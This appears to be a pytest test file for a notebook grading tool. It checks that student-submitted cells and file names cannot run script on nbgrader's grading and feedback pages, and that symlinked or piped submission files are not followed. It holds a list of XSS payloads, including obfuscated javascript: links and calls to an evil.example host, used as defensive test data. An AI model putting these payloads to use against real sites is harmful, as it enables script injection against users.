"""What a student wrote runs nothing on the pages of the formgrader and of the feedback, whatever kind of cell it is."""

import os
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbgrader.server_extensions.formgrader
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.filters import markdown2html
from nbformat.notebooknode import NotebookNode
from nbgrader.converters import Autograde
from nbgrader.converters.base import BaseConverter
from nbgrader.coursedir import CourseDirectory

from grader.isolation.sandbox import Sandbox
from grader.platforms.nbgrader import cleaning
from grader.platforms.nbgrader.cleaning import LONGEST, cleaned
from grader.platforms.nbgrader.intake import complete_submissions
from grader.platforms.nbgrader.reading import SubmittedNotebookExporter, _bytes, read_notebook
from grader.platforms.nbgrader.restore import Released, restored

TEMPLATES = Path(nbgrader.server_extensions.formgrader.__file__).parent / "templates"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Look: <script src='https://evil.example/x.js'></script> here",
    "handler": '<img src=x onerror="alert(1)"><b onclick=alert(1)>b</b><svg onload=alert(1)>',
    "link": "[click](javascript:alert(1)) [me](data:text/html;base64,PHNjcmlwdD4=) <a href='vbscript:x'>x</a>",
    "link in disguise": "[click](java&#115;cript:alert(1)) <a href='&#x6A;avascript:alert(1)'>x</a>",
    "picture": "![x](javascript:alert(1)) ![y](https://evil.example/seen.png)",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "style": "<style>@import 'https://evil.example/x.css'</style><p style='background:url(https://evil.example)'>p</p>",
    "form": "<form action=https://evil.example><input autofocus onfocus=alert(1)><button>b</button></form>",
    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "code": "    <script>alert(1)</script>\n\n`<script>alert(1)</script>`",
    "math": "$<img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$ \\begin{x}<script>\\end{x}",
    "half a tag": "<div\n\n<script>alert(1)</script>\n\n<scr<script>ipt>alert(1)</scr</script>ipt>",
    "comment": "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt; \\<script>alert(1)\\</script>",
    "broken up": "a\n\n</div></div></body><script>alert(1)</script>\n\n* b\n\n<script>",
}
NOTICED = ("script", "img", "iframe", "object", "embed", "style", "form", "input", "button", "svg", "link", "meta")


class Elements(HTMLParser):
    """The elements of a page that do something, with their attributes."""

    def __init__(self, page: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note elements that load or run, handlers, and links to anything but pages."""
        harmful = {name for name, _ in attrs if name.startswith("on") or name in ("srcdoc", "formaction")}
        links = {
            value for name, value in attrs if name == "href" and not str(value).startswith(("http", "#", "mailto"))
        }
        if tag in NOTICED or harmful or links:
            self.found.append(f"{tag} {harmful} {links}")


def page_of(cells: list[NotebookNode], template: str) -> str:
    """A notebook as nbgrader shows it to the instructor (formgrade) or to the student (feedback)."""
    css = TEMPLATES.parent / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    exporter = HTMLExporter(
        template_name=template, extra_template_basedirs=[str(TEMPLATES)], extra_template_paths=[str(css)]
    )
    names = {"notebook": "lab05", "score": 1.0, "max_score": 1.0, "late_penalty": 0.0}
    resources = {"nbgrader": names, "index": 0, "total": 1, "base_url": "", "notebook_id": "lab05"}
    return exporter.from_notebook_node(nbformat.v4.new_notebook(cells=cells), resources=resources)[0]


def submitted(*texts: str) -> list[NotebookNode]:
    """The cells that nbgrader gets of a notebook with each text in every kind of cell, also as an answer in words."""
    cells, answers = [], []
    for number, text in enumerate(texts):
        marks = {
            "grade_id": f"answer{number}",
            "locked": False,
            "grade": True,
            "solution": True,
            "points": 2,
            "score": 1,
        }
        answers.append(Released("markdown", "Write your answer here.", marks))
        page = {"text/html": text, "text/markdown": text, "application/javascript": "alert(1)", "image/svg+xml": text}
        outputs = [nbformat.v4.new_output("display_data", data=page), nbformat.v4.new_output("stream", text=text)]
        cells += [
            nbformat.v4.new_markdown_cell(text),
            nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
            nbformat.v4.new_markdown_cell(text, metadata={"nbgrader": {"grade_id": f"answer{number}"}}),
            nbformat.v4.new_code_cell(text, outputs=outputs),
        ]
    notebook = nbformat.v4.new_notebook(cells=cells, metadata={"title": texts[0]})
    return restored(read_notebook(nbformat.writes(notebook).encode()).cells, answers)


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_no_cell_of_a_submission_runs_anything_on_a_page(template: str) -> None:
    """The page of hostile cells holds the same elements as that of harmless ones: nbgrader's own."""
    harmless = Elements(page_of(submitted(*["text"] * len(HOSTILE)), template)).found
    assert Elements(page_of(submitted(*HOSTILE.values()), template)).found == harmless


@pytest.mark.parametrize("name", HOSTILE)
def test_each_hostile_text_is_one_and_is_cleaned(name: str) -> None:
    """As nbconvert renders them, they run something, but for those that it, or this page's parser, takes for text."""
    assert bool(Elements(markdown2html(HOSTILE[name])).found) is (name not in ("code", "math", "escaped", "comment"))
    assert Elements(markdown2html(cleaned([HOSTILE[name]])[0])).found == []
    assert "<!" not in cleaned([HOSTILE[name]])[0]  # parsers differ in where a comment ends


def test_right_texts_look_as_they_were_written() -> None:
    """Headings, lists, tables, code, formulas and links stay what they are, on one line."""
    text = (
        "# Answer\n\nThe *loss* of $x < y$ falls, see [here](https://example.org).\n\n* one\n* two\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nif a < b:\n\n    c()\n```\n"
    )
    shown = page_of([nbformat.v4.new_markdown_cell(cleaned([text])[0])], "feedback")
    for sign in ("<h1>", "<em>loss</em>", "$x &lt; y$", 'href="https://example.org"', "<li>one</li>", "<td>1</td>"):
        assert sign in shown, sign
    assert "if a &lt; b:\n\n    c()" in shown
    assert "\n" not in cleaned([text])[0]


def test_what_cannot_be_rendered_is_shown_as_it_was_written() -> None:
    """A picture that was not handed in would end nbgrader's feedback; a long text could take for ever."""
    assert "![x](attachment:x.png)" in cleaned(["![x](attachment:x.png)"])[0]
    assert "<pre>" in cleaned(["[" * LONGEST + "a"])[0]


def test_texts_that_take_too_long_are_shown_as_they_were_written(monkeypatch: pytest.MonkeyPatch) -> None:
    """Thousands of cells of tables would hold a class for an hour: the bound is one for all cells of a notebook."""
    monkeypatch.setattr(cleaning, "SANDBOX", Sandbox(cpu_seconds=2))
    shown = cleaned(["<script>alert(1)</script>\r\n\r\n<b>*x*</b>", *["|a|b\n|-|-\n" * 2_000] * 100])
    as_written = "&lt;script&gt;alert(1)&lt;/script&gt;&#10;&#10;&lt;b&gt;*x*&lt;/b&gt;"
    assert shown[0] == f"<div><pre>{as_written}</pre></div>"
    assert Elements(markdown2html(shown[0])).found == []


def test_names_of_files_are_text(tmp_path: Path) -> None:
    """The placeholder for a notebook lists what was handed in; names are the student's."""
    folder = tmp_path / "submitted" / "ada" / "lab05"
    folder.mkdir(parents=True)
    (folder / "<img src=x onerror=alert(1)>.py").write_text("")
    (folder / "[x](javascript:alert(1))").write_text("")
    (notebook,) = complete_submissions(tmp_path, "lab05")
    cells = nbformat.read(notebook, 4).cells
    assert Elements(page_of(cells, "formgrade")).found == Elements(page_of(submitted("text")[:1], "formgrade")).found


@pytest.fixture
def course(tmp_path: Path) -> Path:
    """A course folder in which some students handed in links, each in another place."""
    (tmp_path / "grading_seed.txt").write_text("5318008")
    for name in ("ada", "bob", "dora"):
        folder = tmp_path / "submitted" / name / "lab05"
        (folder / "more").mkdir(parents=True)
        (folder / "lab05.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
        (folder / "more" / "helper.py").write_text("")
    (tmp_path / "submitted" / "bob" / "lab05" / "more" / "notes.txt").symlink_to(tmp_path / "grading_seed.txt")
    os.mkfifo(tmp_path / "submitted" / "dora" / "lab05" / "pipe")
    (tmp_path / "submitted" / "carl").mkdir()
    (tmp_path / "submitted" / "carl" / "lab05").symlink_to(tmp_path / "submitted" / "ada" / "lab05")
    (tmp_path / "submitted" / "emil").symlink_to(tmp_path / "submitted" / "ada")
    return tmp_path


@pytest.mark.parametrize("skipped", [True, False])
def test_nothing_behind_a_link_is_copied(course: Path, skipped: bool) -> None:
    """nbgrader copies links as what they lead to, and comes to a halt at a pipe; with our reader it takes neither."""
    place = CourseDirectory(root=str(course), assignment_id="lab05")
    converter = Autograde(coursedir=place)
    converter.init_notebooks()
    if skipped:
        SubmittedNotebookExporter(parent=converter)
    copied = {}
    for name in ("ada", "bob", "carl", "emil"):
        BaseConverter.init_assignment(converter, "lab05", name)
        into = course / "autograded" / name / "lab05"
        copied[name] = sorted(path.name for path in into.rglob("*") if path.is_file())
    others = [] if skipped else ["helper.py"]
    assert copied == {
        "ada": ["helper.py"],
        "bob": others + ["notes.txt"] * (not skipped),
        "carl": others,
        "emil": others,
    }
    assert skipped is (str(course / "submitted" / "dora" / "lab05") in place.ignore)


def test_a_notebook_behind_a_link_is_not_read(course: Path) -> None:
    """Be the notebook the link, or the folder of the student."""
    for name in ("carl", "emil"):
        assert _bytes(course / "submitted" / name / "lab05" / "lab05.ipynb") == b""
    assert _bytes(course / "submitted" / "ada" / "lab05" / "lab05.ipynb")
